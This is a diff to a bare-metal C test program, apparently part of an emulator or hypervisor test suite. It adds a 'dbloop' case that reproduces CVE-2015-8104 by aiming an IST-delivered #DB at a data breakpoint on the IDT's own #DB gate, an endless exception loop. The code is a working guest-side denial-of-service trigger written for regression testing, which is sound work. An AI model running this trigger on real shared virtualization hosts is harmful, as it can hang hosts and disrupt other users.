@@ -5,6 +5,9 @@
  *            both complete (CR8 exists only in 64-bit mode, SDM Vol. 3A, 2.5)   -> exit 0
  *   pgoff64  MOV CR0 clearing PG in 64-bit mode: #GP(0) (SDM Vol. 2B, MOV CR; Vol. 3A, 10.8.5.4),
  *            caught, still in long mode                                          -> exit 0
+ *   dbloop   a data breakpoint on the IDT's #DB gate, delivered on an IST stack, then a read of the
+ *            gate: each #DB's delivery reads the gate and raises the next, on the same stack, forever
+ *            (CVE-2015-8104). Prints `crash64: entering the #DB loop`          -> never ends
  */
 #include "rt.h"
 
@@ -94,12 +97,43 @@ static int do_pgoff64(void)
 	return check_failed ? 1 : 0;
 }
 
+/* --- do=dbloop ---------------------------------------------------------------------------------- */
+
+/* The runtime's GDT (code 0x08, data 0x10) and a 64-bit TSS at 0x18, whose IST1 the #DB gate names:
+ * every delivery of vector 1 then starts on the same stack (SDM Vol. 3A, 7.14.5), so nested #DBs do
+ * not use it up. */
+static uint64_t gdt64[5] __attribute__((aligned(8))) = { 0, 0x00AF9A000000FFFFull, 0x00CF92000000FFFFull, 0, 0 };
+static uint32_t tss64[26] __attribute__((aligned(16)));    /* 104 bytes (SDM Vol. 3A, 8.7, Figure 8-11) */
+static uint8_t ist_stack[4096] __attribute__((aligned(16)));
+
+static void do_dbloop(void)
+{
+	struct { uint16_t limit; uint64_t base; } __attribute__((packed)) gdtr = { sizeof(gdt64) - 1,
+		(uint64_t)(uintptr_t)gdt64 };
+	uint64_t base = (uint64_t)(uintptr_t)tss64, limit = sizeof(tss64) - 1, ist = (uint64_t)(uintptr_t)(ist_stack + sizeof(ist_stack));
+	uint32_t dr7 = 0x400 | 1u | (3u << 16) | (3u << 18);  /* L0, R/W0 = 11 (read or write), LEN0 = 11 (4 bytes) */
+
+	tss64[9] = (uint32_t)ist;                  /* IST1 at byte 36 */
+	tss64[10] = (uint32_t)(ist >> 32);
+	tss64[25] = (uint32_t)sizeof(tss64) << 16; /* I/O map base past the limit */
+	/* Available 64-bit TSS (type 9, present), 16 bytes (SDM Vol. 3A, 8.2.3, Figure 8-4). */
+	gdt64[3] = (limit & 0xffff) | ((base & 0xffffff) << 16) | (0x89ull << 40) | ((limit >> 16) << 48) |
+		   (((base >> 24) & 0xff) << 56);
+	gdt64[4] = base >> 32;
+	__asm__ volatile("lgdt %0\n\tltr %w1" : : "m"(gdtr), "r"(0x18) : "memory");
+	idt[2] |= 1ull << 32;                      /* vector 1's gate: IST 1 (bits 34:32) */
+	printf("crash64: entering the #DB loop\n");
+	__asm__ volatile("mov %0, %%dr0\n\tmov %1, %%dr7\n\tmovl (%0), %%eax"
+			 : : "r"(&idt[2]), "r"((uint64_t)dr7) : "rax", "memory");
+	printf("crash64: still running after the #DB loop\n");
+}
+
 int main(void)
 {
 	const char *what = getarg("do");
 
 	if (!what) {
-		printf("crash64: usage: do=cr8|pgoff64\n");
+		printf("crash64: usage: do=cr8|pgoff64|dbloop\n");
 		return 3;
 	}
 	printf("crash64: doing %s\n", what);
@@ -108,6 +142,10 @@ int main(void)
 		return do_cr8();
 	if (!strcmp(what, "pgoff64"))
 		return do_pgoff64();
+	if (!strcmp(what, "dbloop")) {
+		do_dbloop();
+		return 1;
+	}
 	printf("crash64: unknown do=%s\n", what);
 	return 3;
 }
